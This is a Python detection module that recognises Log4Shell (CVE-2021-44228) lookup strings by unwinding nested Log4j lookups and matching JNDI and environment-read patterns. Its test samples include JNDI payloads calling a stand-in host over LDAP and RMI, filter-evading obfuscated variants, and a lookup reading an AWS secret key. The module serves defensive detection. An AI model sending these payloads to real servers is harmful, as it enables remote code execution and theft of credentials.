"""Lookups of a logging library: text that makes Log4j load and run code from an address.

CVE-2021-44228, CWE-917. Nested lookups are worked out the way the library does (a default behind `:-`, `lower`,
`upper`, `date`), until nothing changes or the bound is reached. Source: Apache Log4j 2 manual, "Lookups".
"""

import re

from delicti.detect.asked import is_question
from delicti.detect.contexts import ANYWHERE, CERTAIN, POSSIBLE, PROBABLE, STRONG, Context, Verdict

CLASS, TECHNIQUE, WEAKNESS = "log4shell", "T1190", "CWE-917"
ANCHORS = (
    (
        r"\$\{[^}]{0,200}(?:jndi|:-|lower:|upper:|env:|sys:|date:|ctx:|java:|main:|docker:|k8s:|bundle:|map:|base64:|"
        r"log4j:|web:)"
    ),
    r"jndi\s*:\s*(?:ldap|rmi|dns|iiop|nis|nds|corba|http)",
    r"\$\{jndi",
)
CONTEXTS = ANYWHERE
HITS = (
    "${jndi:ldap://evil.example/a}",
    "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
    "${env:AWS_SECRET_ACCESS_KEY}",
)
LOOKALIKES = ("${name}", "jndi lookup tutorial", "${AUCTION_PRICE}", "${price:-10}")

_INNER = re.compile(r"\$\{([^${}]{0,200})\}")
_JNDI = re.compile(
    (
        r"\$?\{?\s*j\s*n\s*d\s*i\s*:\s*(?:(?P<scheme>ldaps?|rmi|dns|iiop|nis|nds|corba|"
        r"https?)\s*:?\s*/*(?P<where>[^}\s]{0,200})|\S{3,200}:/)"
    ),
    re.IGNORECASE,
)
_OPEN = re.compile(r"\$\{\s*jndi\s*:", re.IGNORECASE)
_READS = re.compile(r"\$\{(?P<kind>env|sys|ctx|java|main|docker|k8s|bundle|web|base64):[\w.:/-]{2,100}", re.IGNORECASE)
_ROUNDS = 40


def _worked_out(match: re.Match[str]) -> str:
    text = match[1]
    if ":-" in text:
        return text.split(":-", 1)[1]
    kind, colon, rest = text.partition(":")
    if colon and kind.lower() in ("lower", "upper", "date", "base64"):
        return rest.strip("'\"")
    return f"{{{text}}}"


def judge(value: str, context: Context) -> Verdict | None:  # noqa: ARG001
    """The value with its inner lookups worked out, then looked at."""
    text = value
    for _ in range(_ROUNDS):
        if (match := _JNDI.search(text)) and "{" in value:
            where = match["where"] or ""
            if not where and is_question(value):
                return None  # it names no address
            return Verdict(
                CERTAIN,
                match[0][:300],
                f"A vulnerable Log4j would load code from {where or 'an address of the sender'}.",
            )
        inner = _INNER.sub(_worked_out, text, count=8)
        if inner == text:
            break
        text = inner
    if match := _OPEN.search(value):
        return Verdict(STRONG, match[0], "A vulnerable Log4j would look a name up at an address of the sender.")
    if match := _READS.search(value):
        secret = re.search(r"key|secret|pass|token|user|host|version|os\b|path|home", match[0], re.IGNORECASE)
        return Verdict(
            PROBABLE if secret else POSSIBLE, match[0], "A vulnerable Log4j would write out a setting of the server."
        )
    if value.count("${") > 2 and re.search(r"(?:\$\{[^{}]{0,20}:-?\w\}){3}", value):
        return Verdict(PROBABLE, value[:300], "Nested lookups spell a word letter by letter, past a filter.")
    return None
